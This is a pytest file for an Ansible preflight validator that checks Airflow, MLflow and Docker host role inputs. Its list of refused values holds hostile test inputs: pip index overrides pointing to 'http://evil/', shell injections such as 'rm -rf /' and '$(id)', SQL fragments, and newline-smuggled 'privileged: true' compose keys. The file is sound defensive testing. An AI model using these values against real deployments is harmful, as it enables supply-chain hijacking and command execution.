"""Input rules of the roles' preflight (playbooks/filter_plugins/mlops_inputs.py).

Each input that lands in a requirements file, a compose file, a command or the database is
checked in its role's tasks/preflight.yml by a ``{var, rule, value}`` entry. These tests
read those entries from the YAML, so they prove both halves: the rule refuses the bad value
with a message that names the variable, and the preflight wires that variable to that rule.
"""

from __future__ import annotations

from pathlib import Path

import jinja2
import pytest
import yaml
from role_code import ROLES, load

inputs = load("airflow/filter_plugins/mlops_inputs.py")

# role → the preflight task holding the checks and the name of its list of checks.
CHECK_LISTS = {
    "airflow": "__airflow_input_checks",
    "mlflow": "__mlflow_input_checks",
    "docker_host": "__docker_host_input_checks",
}


def role_vars(role: str) -> dict:
    merged: dict = {}
    for part in ("defaults", "vars"):
        path = ROLES / role / part / "main.yml"
        if path.exists():
            merged.update(yaml.safe_load(path.read_text()) or {})
    return merged


def render(value: object, context: dict) -> object:
    """Resolve ``{{ name }}`` and ``{{ name }}/suffix`` the way Ansible would (enough for the
    defaults these checks see); a bare ``{{ name }}`` keeps the native type."""
    if not isinstance(value, str) or "{{" not in value:
        return value
    stripped = value.strip()
    if stripped.startswith("{{") and stripped.endswith("}}") and stripped.count("{{") == 1:
        name = stripped[2:-2].strip()
        if name.isidentifier():
            return render(context[name], context)
    return render(jinja2.Environment(undefined=jinja2.StrictUndefined).from_string(value).render(**context), context)


def checks(role: str) -> dict[str, dict]:
    """The role's ``{var, rule, value, ...}`` entries by variable, options rendered."""
    tasks = yaml.safe_load((ROLES / role / "tasks" / "preflight.yml").read_text())
    [task] = [t for t in tasks if CHECK_LISTS[role] in t.get("vars", {})]
    context = role_vars(role)
    found = {}
    for entry in task["vars"][CHECK_LISTS[role]]:
        assert entry["value"] == "{{ " + entry["var"] + " }}", entry  # checks the variable it names
        found[entry["var"]] = {key: render(val, context) for key, val in entry.items() if key != "value"}
    return found


def refusal(role: str, var: str, value: object) -> list[str]:
    check = checks(role)[var]
    return inputs.input_problems([dict(check, value=value)])


@pytest.mark.parametrize("role", sorted(CHECK_LISTS))
def test_the_defaults_pass(role: str) -> None:
    context = role_vars(role)
    # group_vars wire these in site.yml; on their own the roles take their defaults.
    entries = [dict(check, value=render(context[var], context)) for var, check in checks(role).items()]
    assert inputs.input_problems(entries) == []


# (role, variable, a value the rule must refuse): one line per input.
BAD = [
    ("airflow", "airflow_worker_ml_requirements", ["xgboost-cpu==3.2.0", "--index-url http://evil/ x==1"]),
    ("airflow", "airflow_worker_ml_requirements", ["-e git+https://evil/x#egg=x"]),
    ("airflow", "airflow_worker_extra_requirements", ["--index-url http://evil/ x==1"]),
    ("airflow", "airflow_worker_extra_requirements", ["-r /etc/other.txt"]),
    ("airflow", "airflow_worker_extra_requirements", ["tabulate==0.9.0\n--extra-index-url http://evil/"]),
    ("airflow", "airflow_worker_extra_requirements", ["tabulate==0.9.0\r--trusted-host evil"]),
    ("airflow", "airflow_worker_extra_requirements", ["tabulate>=0.9"]),
    ("airflow", "airflow_worker_extra_requirements", ["tabulate==0.9.0 --hash=sha256:00"]),
    ("airflow", "airflow_worker_extra_requirements", ["https://evil/x.whl"]),
    ("airflow", "airflow_worker_extra_requirements", "tabulate==0.9.0"),
    ("airflow", "airflow_base_extra_requirements", ["celery[redis]==5.6.3", "--pre"]),
    ("airflow", "airflow_providers", ["apache-airflow-providers-fab==3.10.2 --index-url http://evil/"]),
    ("airflow", "airflow_providers", ["requests==2.32.0"]),
    ("airflow", "airflow_providers", ["apache-airflow-providers-fab"]),
    ("airflow", "airflow_version", "latest"),
    ("airflow", "airflow_version", "3.1"),
    ("airflow", "airflow_version", "2.10.5"),
    ("airflow", "airflow_version", "3.3.2\n"),
    ("airflow", "airflow_extras", ["celery", "postgres]==1\n--index-url=http://evil/ x[a"]),
    ("airflow", "airflow_db_name", "airflow;DROP"),
    ("airflow", "airflow_db_user", "Airflow"),
    ("airflow", "airflow_db_user", "airflow\n"),
    ("airflow", "airflow_admin_user", "admin' && rm -rf /"),
    ("airflow", "airflow_admin_email", "a@b.c$(id)"),
    ("airflow", "airflow_project_dir", "/opt/lakehouse $HOME"),
    ("airflow", "airflow_secrets_dir", "relative/secrets"),
    ("airflow", "airflow_dag_releases_dir", "/opt/x:/etc"),
    ("airflow", "airflow_data_dir", "/opt/data\n  privileged: true"),
    ("airflow", "airflow_data_dir", '/opt/"data"'),
    ("airflow", "airflow_data_dir", "/opt/data #comment"),
    ("airflow", "airflow_compose_project", "Bad_Name"),
    ("airflow", "airflow_bind_address", "localhost"),
    ("airflow", "airflow_bind_address", "127.0.0.1:8082"),
    ("airflow", "airflow_mlflow_tracking_uri", "http://mlflow:5000/${HOME}"),
    ("airflow", "airflow_extra_env", {"lower_case": "1"}),
    ("airflow", "airflow_extra_env", {"A B": "1"}),
    ("airflow", "airflow_extra_env", {"AIRFLOW__CORE__PARALLELISM": "8\nprivileged: true"}),
    ("airflow", "airflow_extra_env", {"AIRFLOW__CORE__EXECUTOR": "LocalExecutor"}),
    ("airflow", "airflow_worker_queues", []),
    ("airflow", "airflow_worker_queues", "default,heavy"),
    ("airflow", "airflow_worker_queues", ["default", "heavy,gpu"]),
    ("airflow", "airflow_worker_queues", ["default", "heavy queue"]),
    ("airflow", "airflow_worker_queues", ["default", "heavy\n"]),
    ("airflow", "airflow_worker_queues", ["default", ""]),
    ("airflow", "airflow_worker_queues", ["default", "$HOME"]),
    ("airflow", "airflow_worker_queues", ["default", "heavy", "default"]),
    ("airflow", "airflow_worker_queues", ["default", 3]),
    ("airflow", "airflow_worker_preload_modules", "numpy,mlflow"),
    ("airflow", "airflow_worker_preload_modules", ["numpy", "mlflow,torch"]),
    ("airflow", "airflow_worker_preload_modules", ["numpy", "mlflow."]),
    ("airflow", "airflow_worker_preload_modules", ["numpy", "1torch"]),
    ("airflow", "airflow_worker_preload_modules", ["numpy", "torch\n"]),
    ("airflow", "airflow_worker_preload_modules", ["numpy", "mlops_training"]),
    ("airflow", "airflow_worker_preload_modules", ["numpy", "mlops_training.pipeline"]),
    ("mlflow", "mlflow_version", "2.22.0"),
    ("mlflow", "mlflow_version", "3.17.2\n--index-url http://evil/"),
    ("mlflow", "mlflow_psycopg2_version", "latest"),
    ("mlflow", "mlflow_db_name", "mlflow-db"),
    ("mlflow", "mlflow_db_user", "Robert;DROP"),
    ("mlflow", "mlflow_project_dir", "/opt/$PROJECT"),
    ("mlflow", "mlflow_secrets_dir", "/opt/secrets'"),
    ("mlflow", "mlflow_compose_project", "lt\n"),
    ("mlflow", "mlflow_bind_address", "300.1.1.1"),
    ("mlflow", "mlflow_bind_address", "::1/128"),
    ("mlflow", "mlflow_auth_training_username", "Training Bot"),
    ("mlflow", "mlflow_auth_tools_username", "tools;DROP"),
    ("mlflow", "mlflow_auth_admin_username", ""),
    ("mlflow", "mlflow_training_credentials_file", "secrets/creds"),
    ("mlflow", "mlflow_tools_password_file", "/opt/lt/tools pw"),
    ("airflow", "airflow_mlflow_credentials_file", "relative/credentials"),
    ("airflow", "airflow_mlflow_credentials_file", "/opt/lt/creds\n  privileged: true"),
    ("docker_host", "docker_host_project_dir", "/opt/lt ${X}"),
    ("docker_host", "docker_host_secrets_dir", "/opt/lt/se:crets"),
    ("docker_host", "docker_host_cache_dir", "/var/cache/#lt"),
    ("docker_host", "docker_host_compose_project", "-lt"),
]


@pytest.mark.parametrize(("role", "var", "value"), BAD, ids=[f"{var}={value!r}" for _, var, value in BAD])
def test_bad_input_is_refused_naming_the_variable(role: str, var: str, value: object) -> None:
    problems = refusal(role, var, value)
    assert problems, f"{var}={value!r} passed"
    assert all(problem.startswith(var) for problem in problems), problems


GOOD = [
    ("airflow", "airflow_worker_extra_requirements", ["tabulate==0.9.0", "torch==2.13.0+cpu", "celery[redis]==5.6.3"]),
    ("airflow", "airflow_worker_extra_requirements", ["pandas==3.0.6; python_version >= '3.11'", "x==1.0rc1"]),
    ("airflow", "airflow_worker_extra_requirements", []),
    ("airflow", "airflow_providers", ["apache-airflow-providers-fab==3.10.2", "apache-airflow-providers-http==5.3.0"]),
    ("airflow", "airflow_version", "3.1.3"),
    ("airflow", "airflow_bind_address", "0.0.0.0"),
    ("airflow", "airflow_bind_address", "::1"),
    ("airflow", "airflow_bind_address", "172.19.0.1"),
    ("airflow", "airflow_extra_env", {"AIRFLOW__CORE__PARALLELISM": "8", "TOKEN_WITH_DOLLAR": "a$b", "N": 3}),
    ("airflow", "airflow_data_dir", "/srv/lt-data/v1.2_x"),
    ("airflow", "airflow_worker_queues", ["default"]),
    ("airflow", "airflow_worker_queues", ["default", "heavy", "gpu-a100.v2", "CPU_only"]),
    ("airflow", "airflow_worker_preload_modules", []),
    ("airflow", "airflow_worker_preload_modules", ["numpy", "mlflow.pytorch", "_private.mod_2", "mlops_training_extra"]),
    ("mlflow", "mlflow_psycopg2_version", "2.9"),
    ("mlflow", "mlflow_bind_address", "::"),
    ("mlflow", "mlflow_auth_training_username", "training_dags"),
    ("airflow", "airflow_mlflow_credentials_file", ""),
    ("airflow", "airflow_mlflow_credentials_file", "/opt/lakehouse-tick/secrets/mlflow_training_credentials"),
]


@pytest.mark.parametrize(("role", "var", "value"), GOOD, ids=[f"{var}={value!r}" for _, var, value in GOOD])
def test_valid_input_passes(role: str, var: str, value: object) -> None:
    assert refusal(role, var, value) == []


def test_every_problem_is_reported_not_just_the_first() -> None:
    found = inputs.input_problems([
        {"var": "airflow_db_name", "rule": "identifier", "value": "a-b"},
        {"var": "airflow_worker_extra_requirements", "rule": "requirements", "value": ["-e .", "x==1", "--pre"]},
    ])
    assert [p.split(" ")[0].rstrip(":") for p in found] == [
        "airflow_db_name", "airflow_worker_extra_requirements", "airflow_worker_extra_requirements"]


def test_an_unknown_rule_is_a_bug_not_a_pass() -> None:
    with pytest.raises(ValueError, match="unknown input rule"):
        inputs.input_problems([{"var": "x", "rule": "nonsense", "value": 1}])


def test_the_roles_load_one_canonical_copy() -> None:
    canonical = (ROLES.parent / "playbooks" / "filter_plugins" / "mlops_inputs.py").resolve()
    for role in CHECK_LISTS:
        link = ROLES / role / "filter_plugins" / "mlops_inputs.py"
        assert link.is_symlink() and link.resolve() == canonical, role


def test_path_rule_refuses_what_compose_would_read_differently() -> None:
    """Interpolation ($), YAML syntax (quotes, #, braces, newline), volume syntax (:)."""
    allowed = Path("/opt/a.b_c-d+e@f=g,h/")
    assert inputs.input_problems([{"var": "p", "rule": "path", "value": str(allowed)}]) == []
    for char in " $#:'\"\\\n\t{}`":
        assert inputs.input_problems([{"var": "p", "rule": "path", "value": f"/opt/x{char}y"}]), repr(char)


def test_queue_rule_says_which_names_are_wrong_and_which_repeat() -> None:
    problems = refusal("airflow", "airflow_worker_queues", ["default", "heavy,gpu", "heavy", "heavy"])
    assert problems == [
        "airflow_worker_queues: 'heavy,gpu' is not a queue name (1-64 letters, digits, '_', '-' or '.').",
        "airflow_worker_queues names heavy more than once; list each queue once.",
    ]
    [empty] = refusal("airflow", "airflow_worker_queues", [])
    assert empty == "airflow_worker_queues must be a non-empty list of queue names such as [default, heavy] (got [])."


def test_preload_rule_names_the_dag_package_and_why() -> None:
    problems = refusal("airflow", "airflow_worker_preload_modules", ["numpy", "mlops_training.pipeline", "a b"])
    assert problems == [
        ("airflow_worker_preload_modules: mlops_training.pipeline cannot be listed: the DAG package changes with "
         "each release while the worker keeps running."),
        "airflow_worker_preload_modules: 'a b' is not a Python module name (dotted identifiers such as mlflow.pytorch).",
    ]
